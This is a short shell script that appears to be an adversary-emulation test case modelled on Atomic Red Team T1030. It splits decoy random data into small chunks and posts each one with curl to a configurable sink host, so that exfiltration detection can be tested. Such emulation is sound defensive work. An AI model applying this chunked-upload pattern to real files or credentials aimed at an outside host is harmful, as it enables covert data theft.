#!/bin/sh
# case: T1030-chunks-posted
# technique: Data posted in small chunks
# source: redcanaryco/atomic-red-team T1030-1 Data Transfer Size Limits; redcanaryco/atomic-red-team T1030-2
# needs: split curl
# expect: net file
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
[ -n "${HO_SINK:-}" ] || { echo "SKIP: no sink"; exit 77; }
need split curl; head -c 60000 /dev/urandom > "$W/d"; split -b 10000 "$W/d" "$W/part."; for f in "$W"/part.*; do curl -s -m 4 --data-binary "@$f" "http://$HO_SINK/c" >/dev/null; done; true
exit 0
